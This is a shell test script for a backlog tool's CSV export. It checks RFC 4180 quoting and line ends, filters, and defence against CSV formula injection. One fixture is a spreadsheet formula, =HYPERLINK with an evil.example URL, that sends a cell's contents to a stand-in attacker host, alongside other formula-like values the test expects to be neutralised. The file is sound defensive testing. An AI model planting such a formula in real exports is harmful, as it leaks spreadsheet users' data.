#!/bin/sh
# prio list --format csv: RFC 4180 (CRLF, quoting, doubled quotes), a
# header row, the fields of list --json; filters and --rev as for text.
. "$(dirname "$0")/lib.sh"

new_repo
good_story S-1 "rank: 2
labels: [payments, africa]
owner: ada"
story S-2 <<'EOF'
---
id: S-2
title: 'Say "hi", then: go'
status: draft
rank: 1
depends-on: [S-1, S-3]
goal: G-2
---
Body.
EOF
story S-3 <<'EOF'
---
id: S-3
title: "Two\nlines\r\nand CR"
status: accepted
labels: ["semi;colon", 'comma, here']
---
Body.

## Acceptance criteria

- [x] Done.
- [X] Also done.
EOF
good_story S-4
commit_all "backlog"

# crlf FILE: shows CR as \r so the expected text stays readable.
crlf() {
	sed 's/\r/\\r/g' "$TEST_ROOT/out" >"$TEST_ROOT/out.v" &&
	    mv "$TEST_ROOT/out.v" "$TEST_ROOT/out"
}

run_prio list --format csv
expect_rc 0 "list --format csv exits 0"
crlf
expect_out "csv: header, open stories in backlog order, CRLF line ends" <<'X'
id,title,status,rank,score,position,path,owner,goal,labels,depends_on,criteria_total,criteria_met\r
S-2,"Say ""hi"", then: go",draft,1,,1,backlog/stories/S-2.md,,G-2,,S-1;S-3,0,0\r
S-1,Story S-1,ready,2,2,2,backlog/stories/S-1.md,ada,,payments;africa,,1,0\r
S-4,Story S-4,ready,,2,3,backlog/stories/S-4.md,,,,,1,0\r
X
expect_err "csv writes nothing on stderr" </dev/null

run_prio list --format csv --all
crlf
expect_out "csv --all: terminal stories, with no position; CR and LF quoted" <<'X'
id,title,status,rank,score,position,path,owner,goal,labels,depends_on,criteria_total,criteria_met\r
S-2,"Say ""hi"", then: go",draft,1,,1,backlog/stories/S-2.md,,G-2,,S-1;S-3,0,0\r
S-1,Story S-1,ready,2,2,2,backlog/stories/S-1.md,ada,,payments;africa,,1,0\r
S-4,Story S-4,ready,,2,3,backlog/stories/S-4.md,,,,,1,0\r
S-3,"Two
lines\r
and CR",accepted,,,,backlog/stories/S-3.md,,,"semi;colon;comma, here",,2,2\r
X

# Python's csv module is an independent RFC 4180 reader.
if command -v python3 >/dev/null 2>&1; then
	run_prio list --format csv --all
	python3 - "$TEST_ROOT/out" >"$TEST_ROOT/parsed" <<'PY'
import csv, sys
with open(sys.argv[1], newline='') as f:
    for row in csv.reader(f, strict=True):
        print(len(row), repr(row[1]))
PY
	cp "$TEST_ROOT/parsed" "$TEST_ROOT/out"
	expect_out "python's csv reads every row back with 13 fields" <<'X'
13 'title'
13 'Say "hi", then: go'
13 'Story S-1'
13 'Story S-4'
13 'Two\nlines\r\nand CR'
X
else
	not_ok "the CSV reads back: python3 is missing (sh tools/deps.sh)"
fi

run_prio list --format csv --status draft
crlf
expect_out "filters apply to csv" <<'X'
id,title,status,rank,score,position,path,owner,goal,labels,depends_on,criteria_total,criteria_met\r
S-2,"Say ""hi"", then: go",draft,1,,1,backlog/stories/S-2.md,,G-2,,S-1;S-3,0,0\r
X

run_prio list --format csv --label nothing-has-this
crlf
expect_out "no stories: the header row alone" <<'X'
id,title,status,rank,score,position,path,owner,goal,labels,depends_on,criteria_total,criteria_met\r
X

sed -i 's/^rank: 2$/rank: 0.5/' backlog/stories/S-1.md
run_prio list --format csv --rev HEAD
crlf
expect_out "csv --rev reads the commit, not the work tree" <<'X'
id,title,status,rank,score,position,path,owner,goal,labels,depends_on,criteria_total,criteria_met\r
S-2,"Say ""hi"", then: go",draft,1,,1,backlog/stories/S-2.md,,G-2,,S-1;S-3,0,0\r
S-1,Story S-1,ready,2,2,2,backlog/stories/S-1.md,ada,,payments;africa,,1,0\r
S-4,Story S-4,ready,,2,3,backlog/stories/S-4.md,,,,,1,0\r
X

run_prio list --format json
json_ok "--format json is --json"
cp "$TEST_ROOT/out" "$TEST_ROOT/fmt.json"
run_prio list --json
if cmp -s "$TEST_ROOT/out" "$TEST_ROOT/fmt.json"; then
	ok "--json and --format json print the same"
else
	not_ok "--json and --format json print the same"
fi
run_prio list --format text
expect_out "--format text is the table" <<'X'
#  ID   STATUS  SCORE  TITLE
1  S-1  ready    2.00  Story S-1
2  S-2  draft       -  Say "hi", then: go
3  S-4  ready    2.00  Story S-4
X
run_prio list --format json --format csv
expect_grep '^id,title,' "the last --format given wins"
run_prio list --json --format csv
expect_rc 2 "--json --format csv is a usage error, not the last one winning"

# --- CSV injection (OWASP): text from a story never starts a formula ------

new_repo
printf 'score: value - effort\n' >backlog/prio.yml
story S-1 <<'EOF'
---
id: S-1
title: =HYPERLINK("http://evil.example/?"&A1,"click")
status: draft
owner: +SUM(1)
goal: -2+3
labels: ['@cmd', 'a;=b']
value: 1
effort: 4
---
EOF
printf -- '---\nid: S-2\ntitle: "\\tTab, first"\nstatus: draft\nowner: "\\r=1"\ngoal: "@x"\nvalue: 2\neffort: 1\n---\n' >backlog/stories/S-2.md
story S-3 <<'EOF'
---
id: S-3
title: a = b + c - d @ e
status: draft
owner: "'quoted"
---
EOF
run_prio list --format csv
expect_rc 0 "csv with formula-like text exits 0"
crlf
expect_out "cells starting = + - @ TAB CR get a leading '; a score of -3 stays a number" <<'X'
id,title,status,rank,score,position,path,owner,goal,labels,depends_on,criteria_total,criteria_met\r
S-2,"'	Tab, first",draft,,1,1,backlog/stories/S-2.md,"'\r=1",'@x,,,0,0\r
S-1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",draft,,-3,2,backlog/stories/S-1.md,'+SUM(1),'-2+3,'@cmd;a;=b,,0,0\r
S-3,a = b + c - d @ e,draft,,,3,backlog/stories/S-3.md,'quoted,,,,0,0\r
X

run_prio list --format xml
expect_rc 2 "an unknown format is a usage error"
expect_err "an unknown format names the three" <<'X'
prio: unknown format 'xml'; use text, json or csv
usage: prio list [--status <s>]... [--role <r>]... [--label <l>] [--owner <o>] [--all] [--json | --format <f>] [--rev <rev>]
X

done_testing
